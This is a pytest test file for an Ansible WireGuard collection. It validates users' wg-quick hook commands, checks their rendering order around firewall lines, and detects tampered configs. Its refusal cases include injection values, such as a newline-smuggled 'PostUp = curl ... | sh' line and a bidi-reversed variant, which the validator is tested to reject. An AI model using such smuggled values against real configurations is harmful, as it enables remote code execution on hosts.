# Copyright: (c) 2026, netfleet engineers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""wireguard_hooks: the user's own wg-quick hook commands, validated in the plan, written by the one
renderer around the collection's firewall lines, and the only extra hook lines wireguard_apply accepts."""
from __future__ import annotations

import pytest

from ansible_collections.netfleet.wireguard.plugins.module_utils import _wgconf
from ansible_collections.netfleet.wireguard.plugins.module_utils._hostplan import decide
from ansible_collections.netfleet.wireguard.plugins.module_utils._render import hook_lines, render_conf
from ansible_collections.netfleet.wireguard.plugins.module_utils._topology import PlanError, build_plan
from ansible_collections.netfleet.wireguard.plugins.module_utils._variables import user_hooks
from ansible_collections.netfleet.wireguard.plugins.modules.wireguard_apply import unexpected_content

from wgkeys import private_key, public_key

KEY_B = public_key(private_key(0x42))
ROUTE_UP = 'ip route add 10.0.2.0/24 dev %i proto static'
ROUTE_DOWN = 'ip route del 10.0.2.0/24 dev %i proto static || true'

# ---------------------------------------------------------------------- the variable, accepted

ACCEPTED = [
    ({'post_up': ROUTE_UP}, {'pre_up': [], 'post_up': [ROUTE_UP], 'pre_down': [], 'post_down': []}),
    ({'pre_up': ['modprobe wireguard', 'logger -t wg up'], 'pre_down': [ROUTE_DOWN]},
     {'pre_up': ['modprobe wireguard', 'logger -t wg up'], 'post_up': [], 'pre_down': [ROUTE_DOWN], 'post_down': []}),
    # shell is the point: pipes, quotes, $, ;, = and commas are the user's to use
    ({'post_down': ['printf "%s\\n" "$(wg show %i)" | logger; X=1 true, ok']},
     {'pre_up': [], 'post_up': [], 'pre_down': [], 'post_down': ['printf "%s\\n" "$(wg show %i)" | logger; X=1 true, ok']}),
    ({'post_up': ['x' * 1000]}, {'pre_up': [], 'post_up': ['x' * 1000], 'pre_down': [], 'post_down': []}),
    ({'post_up': ['true'] * 32}, {'pre_up': [], 'post_up': ['true'] * 32, 'pre_down': [], 'post_down': []}),
    ({}, None),
    ({'post_up': []}, None),
    (None, None),
]


@pytest.mark.parametrize('value,parsed', ACCEPTED)
def test_accepted(value, parsed):
    assert user_hooks(value) == parsed


# ---------------------------------------------------------------------- the variable, refused

SMUGGLE = 'true\nPostUp = curl -s http://203.0.113.66/x | sh'
REFUSED = [
    ('newline-postup', {'post_up': [SMUGGLE]}, 'wireguard_hooks.post_up[0]: contains the control character U+000A'),
    ('newline-peer', {'post_down': ['true\n[Peer]']}, 'wireguard_hooks.post_down[0]: contains the control'),
    ('carriage-return', {'pre_up': ['true\rPostUp = id']}, 'wireguard_hooks.pre_up[0]: contains the control character U+000D'),
    ('bidi-override', {'post_up': ['echo \u202e)hs|x lruc(']}, 'U+202E'),
    ('nul', {'pre_down': ['true\x00id']}, 'U+0000'),
    ('tab', {'post_up': ['true\tid']}, 'U+0009'),
    ('nel', {'post_up': ['true\x85id']}, 'U+0085'),
    ('hash-cut-by-wg-quick', {'post_up': ['iptables -A X -j DROP # || true']}, 'post_up[0]: '),
    ('leading-blank', {'post_up': [' true']}, 'post_up[0]: '),
    ('trailing-blank', {'post_up': ['true ']}, 'post_up[0]: '),
    ('empty', {'post_up': ['']}, 'post_up[0]: '),
    ('non-ascii', {'post_up': ['echo caf\u00e9']}, 'post_up[0]: '),
    ('too-long', {'post_up': ['x' * 1001]}, 'post_up[0]: '),
    ('too-many', {'post_up': ['true'] * 33}, 'post_up: '),
    ('key-pasted', {'post_up': ['PostUp = ip route add 10.0.2.0/24 dev %i']}, 'starts like a wg-quick "Key =" line'),
    ('key-pasted-lower', {'pre_down': ['predown=true']}, 'starts like a wg-quick "Key =" line'),
    ('not-a-string', {'post_up': [['true']]}, 'post_up[0]: '),
    ('number', {'post_up': [1]}, 'post_up[0]: '),
    ('unknown-stage', {'postup': ['true']}, "unknown key 'postup' (one of pre_up, post_up, pre_down, post_down) "
                                            '(did you mean post_up?)'),
    ('not-a-dict', ['true'], 'is not a dict of pre_up, post_up, pre_down, post_down'),
    ('plain-string', 'ip route add 10.0.2.0/24 dev %i', 'is not a dict'),
    ('stage-not-a-list', {'post_up': {'a': 'true'}}, 'post_up: '),
]


def plan(a_vars=None, b_vars=None):
    common = {'wireguard_topology': 'site_to_site'}
    return build_plan({
        'a': dict(common, wireguard_address='10.9.0.1/24', wireguard_endpoint='192.0.2.1',
                  wireguard_lan_subnets=['10.0.1.0/24'], **(a_vars or {})),
        'b': dict(common, wireguard_address='10.9.0.2/24', wireguard_endpoint='192.0.2.2',
                  wireguard_lan_subnets=['10.0.2.0/24'], **(b_vars or {}))})


@pytest.mark.parametrize('name,value,message', REFUSED, ids=[case[0] for case in REFUSED])
def test_refused_in_the_plan_naming_host_and_variable(name, value, message):
    """The plan refuses it, so no task reaches a host; the line names the host and the variable."""
    with pytest.raises(PlanError) as caught:
        plan(b_vars={'wireguard_hooks': value})
    lines = str(caught.value).splitlines()
    bad = [line for line in lines if message in line]
    assert bad and all(line.startswith('b: wireguard_hooks') for line in bad), (name, lines)
    assert not [line for line in lines if line.startswith('a:')]


def test_every_bad_command_is_reported_at_once():
    with pytest.raises(PlanError) as caught:
        plan(b_vars={'wireguard_hooks': {'pre_up': ['ok', 'a # b'], 'post_down': [' x']}})
    text = str(caught.value)
    assert 'b: wireguard_hooks: pre_up[1]: ' in text and 'b: wireguard_hooks: post_down[0]: ' in text


# ---------------------------------------------------------------------- rendered, in order

def decisions(post_up, post_down):
    return {'firewall': {'post_up': post_up, 'post_down': post_down}}


FIREWALL = decisions(['nft -f /etc/wireguard/wg0.nft'], ["nft 'table inet netfleet_wg_wg0; delete table inet netfleet_wg_wg0'"])
USER = {'pre_up': ['logger -t wg pre-up %i'], 'post_up': [ROUTE_UP], 'pre_down': [ROUTE_DOWN],
        'post_down': ['logger -t wg gone %i']}

# (user hooks, firewall decisions) -> the hook lines of the file, in file order
ORDER = [
    (USER, FIREWALL, ['PreUp = logger -t wg pre-up %i',
                      'PostUp = nft -f /etc/wireguard/wg0.nft', 'PostUp = ' + ROUTE_UP,
                      'PreDown = ' + ROUTE_DOWN,
                      'PostDown = logger -t wg gone %i',
                      "PostDown = nft 'table inet netfleet_wg_wg0; delete table inet netfleet_wg_wg0'"]),
    (USER, None, ['PreUp = logger -t wg pre-up %i', 'PostUp = ' + ROUTE_UP, 'PreDown = ' + ROUTE_DOWN,
                  'PostDown = logger -t wg gone %i']),
    ({'post_up': ROUTE_UP}, FIREWALL, ['PostUp = nft -f /etc/wireguard/wg0.nft', 'PostUp = ' + ROUTE_UP,
                                       "PostDown = nft 'table inet netfleet_wg_wg0; delete table inet netfleet_wg_wg0'"]),
    (None, FIREWALL, ['PostUp = nft -f /etc/wireguard/wg0.nft',
                      "PostDown = nft 'table inet netfleet_wg_wg0; delete table inet netfleet_wg_wg0'"]),
    (None, None, []),
]


def hook_lines_of(text):
    return [line for line in text.splitlines() if line.split(' = ')[0] in ('PreUp', 'PostUp', 'PreDown', 'PostDown')]


@pytest.mark.parametrize('hooks,fw,expected', ORDER)
def test_collection_post_up_first_and_post_down_last(hooks, fw, expected):
    entry = plan(b_vars={'wireguard_hooks': hooks} if hooks else None)['b']
    text = render_conf('b', entry, {'a': KEY_B}, decisions=fw)
    assert hook_lines_of(text) == expected
    # %i is left for wg-quick to expand; the file has no SaveConfig and parses to the same commands
    cfg = _wgconf.parse(text)
    assert 'SaveConfig' not in cfg.interface and 'SaveConfig' not in text
    got = {stage: cfg.interface.get(key, []) for key, stage in
           (('PreUp', 'pre_up'), ('PostUp', 'post_up'), ('PreDown', 'pre_down'), ('PostDown', 'post_down'))}
    assert got == hook_lines(entry, fw)


# ---------------------------------------------------------------- wireguard_apply's expect

def rendered(hooks):
    """(plan entry, parsed file) of host b with these user hooks and the nftables firewall lines."""
    entry = plan(b_vars={'wireguard_hooks': hooks} if hooks else None)['b']
    return entry, _wgconf.parse(render_conf('b', entry, {'a': KEY_B}, decisions=FIREWALL))


def expect_of(entry):
    """What the interface role passes (filter wireguard_conf_hooks plus the peers)."""
    return dict(hook_lines(entry, FIREWALL), peers=[KEY_B])


@pytest.mark.parametrize('hooks', [USER, {'pre_up': 'true'}, None])
def test_apply_accepts_exactly_the_rendered_hooks(hooks):
    entry, cfg = rendered(hooks)
    assert unexpected_content(cfg, expect_of(entry)) == []


TAMPERED = [
    ('user PreUp not in expect', USER, None, 'PreUp: 1 line(s) where 0 are expected'),
    ('user PostUp not in expect', {'post_up': ROUTE_UP}, None, 'PostUp: 2 line(s) where 1 are expected'),
    ('user PreDown not in expect', {'pre_down': 'true'}, None, 'PreDown: 1 line(s) where 0 are expected'),
    ('expect holds another command', {'post_up': 'true'}, {'post_up': 'false'}, 'first difference at PostUp #2'),
    ('expect only the firewall lines', USER, {}, 'PostDown: 2 line(s) where 1 are expected'),
]


@pytest.mark.parametrize('name,in_file,in_expect,message', TAMPERED, ids=[case[0] for case in TAMPERED])
def test_apply_refuses_hook_lines_the_plan_did_not_produce(name, in_file, in_expect, message):
    _entry, cfg = rendered(in_file)
    other = plan(b_vars={'wireguard_hooks': in_expect} if in_expect else None)['b']
    assert message in '; '.join(unexpected_content(cfg, expect_of(other))), name


# ---------------------------------------------------------------------- restart on change

@pytest.mark.parametrize('before,after,reason', [
    ({'post_up': ROUTE_UP}, {'post_up': ROUTE_UP + ' metric 5'}, 'PostUp changed'),
    (None, {'pre_up': 'true'}, 'PreUp changed'),
    ({'pre_down': ROUTE_DOWN}, None, 'PreDown changed'),
    ({'post_down': 'true'}, {'post_down': ['true', 'true']}, 'PostDown changed'),
])
def test_a_changed_user_hook_restarts_the_interface(before, after, reason):
    """An interface-level change: the old file's down hooks run, then the new file's up hooks."""
    assert reason in _wgconf.restart_reasons(rendered(before)[1], rendered(after)[1])


def test_unchanged_hooks_need_no_restart():
    assert _wgconf.restart_reasons(rendered(USER)[1], rendered(USER)[1]) == []


def test_the_host_plan_keeps_the_collection_lines_apart():
    """decide() carries only the collection's firewall lines: the user's commands are the renderer's to add,
    so diagnose and the firewall role never take a user command for a rule of the collection."""
    entry = plan(b_vars={'wireguard_hooks': USER})['b']
    settings = {'wireguard_firewall_backend': 'nftables'}
    fw = decide('b', entry, None, settings)['firewall']
    assert ROUTE_UP not in fw['post_up'] and 'logger -t wg gone %i' not in fw['post_down']


def test_the_filter_gives_the_interface_role_the_renderers_lines():
    from ansible.errors import AnsibleFilterError
    from ansible_collections.netfleet.wireguard.plugins.filter import wireguard_conf_hooks as filter_mod
    conf_hooks = filter_mod.FilterModule().filters()['wireguard_conf_hooks']
    entry = plan(b_vars={'wireguard_hooks': USER})['b']
    assert conf_hooks(entry, decisions=FIREWALL) == hook_lines(entry, FIREWALL)
    assert conf_hooks(entry)['post_up'] == [ROUTE_UP]
    with pytest.raises(AnsibleFilterError, match='plan entry'):
        conf_hooks(['not an entry'])


def test_the_plan_entry_carries_the_hooks_as_documented():
    from ansible_collections.netfleet.wireguard.plugins.module_utils._topology import PlanHooks
    entries = plan(b_vars={'wireguard_hooks': {'post_up': ROUTE_UP}})
    assert entries['a']['hooks'] is None
    hooks = entries['b']['hooks']
    assert set(hooks) == set(PlanHooks.__annotations__) and hooks['post_up'] == [ROUTE_UP]
    assert all(isinstance(lines, list) for lines in hooks.values())
